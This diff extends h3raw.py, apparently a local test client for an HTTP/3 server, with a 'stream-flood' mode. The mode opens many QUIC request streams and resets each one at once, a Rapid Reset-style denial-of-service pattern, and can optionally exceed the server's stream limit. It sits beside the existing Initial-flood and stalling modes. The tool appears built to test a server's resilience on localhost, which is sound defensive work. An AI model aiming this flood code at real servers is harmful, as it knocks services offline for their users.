@@ -7,6 +7,12 @@ h3raw.py initial-flood --port P --count N
     Initial datagram (a real ClientHello, so the server must act on it),
     never followed up. Prints {"sent": N, "retries": R, "other": O}: the
     datagrams that came back, Retry packets (RFC 9000 §17.2.5) apart.
+h3raw.py stream-flood --port P --path PATH --count N --hold S [--obey]
+    One connection that opens N request streams for PATH and resets each
+    at once (HTTP/2's Rapid Reset, on QUIC), for S seconds, answering
+    the server's packets all along; with --obey only as many as the
+    server's MAX_STREAMS allows, else past it. Prints {"opened": n,
+    "closed": whether the server closed the connection, "error": code}.
 h3raw.py stall --port P --path PATH
     A client that completes the handshake, asks for PATH, takes a few
     datagrams and then never reads (nor acknowledges) again; it keeps its
@@ -22,6 +28,13 @@ import time
 from aioquic.h3.connection import H3_ALPN, H3Connection
 from aioquic.quic.configuration import QuicConfiguration
 from aioquic.quic.connection import QuicConnection
+
+
+def timer(q):
+    """Runs the connection's timer if it is due."""
+    t = q.get_timer()
+    if t is not None and time.time() >= t:
+        q.handle_timer(now=time.time())
 
 
 def config():
@@ -81,7 +94,7 @@ def stall(a):
         try:
             data, _ = s.recvfrom(65536)
         except socket.timeout:
-            q.handle_timer(now=time.time())
+            timer(q)
             continue
         received += len(data)
         q.receive_datagram(data, addr, now=time.time())
@@ -95,17 +108,63 @@ def stall(a):
     os._exit(0)
 
 
+def stream_flood(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    addr = ("127.0.0.1", a.port)
+    q = QuicConnection(configuration=config())
+    q.connect(addr, now=time.time())
+    h3 = None
+    opened = 0
+    s.settimeout(0.01)
+    deadline = time.time() + a.hold
+    while time.time() < deadline:
+        if h3 is None and q._handshake_complete:
+            h3 = H3Connection(q)
+        if h3 is not None and opened < a.count:
+            # As many as the server's MAX_STREAMS lets through now.
+            for _ in range(16):
+                if opened >= a.count:
+                    break
+                # --obey: within the server's MAX_STREAMS (RFC 9000
+                # §4.6); without it, past it.
+                if a.obey and opened >= q._remote_max_streams_bidi:
+                    break
+                sid = q.get_next_available_stream_id()
+                h3.send_headers(sid, [
+                    (b":method", b"GET"), (b":scheme", b"https"),
+                    (b":authority", b"localhost"), (b":path", a.path.encode()),
+                ], end_stream=True)
+                q.reset_stream(sid, 0x10C)  # H3_REQUEST_CANCELLED
+                opened += 1
+        for data, _ in q.datagrams_to_send(now=time.time()):
+            s.sendto(data, addr)
+        try:
+            data, _ = s.recvfrom(65536)
+            q.receive_datagram(data, addr, now=time.time())
+            while q.next_event() is not None:
+                pass
+        except socket.timeout:
+            timer(q)
+    closed = q._close_event is not None
+    print(json.dumps({"opened": opened, "closed": closed,
+                      "error": getattr(q._close_event, "error_code", None)}), flush=True)
+    os._exit(0)
+
+
 def main():
     ap = argparse.ArgumentParser()
-    ap.add_argument("mode", choices=["initial-flood", "stall"])
+    ap.add_argument("mode", choices=["initial-flood", "stall", "stream-flood"])
     ap.add_argument("--port", type=int, required=True)
     ap.add_argument("--count", type=int, default=1000)
     ap.add_argument("--path", default="/")
     ap.add_argument("--take", type=int, default=64 << 10)
     ap.add_argument("--hold", type=float, default=30)
+    ap.add_argument("--obey", action="store_true")
     a = ap.parse_args()
     if a.mode == "initial-flood":
         initial_flood(a)
+    elif a.mode == "stream-flood":
+        stream_flood(a)
     else:
         stall(a)
 
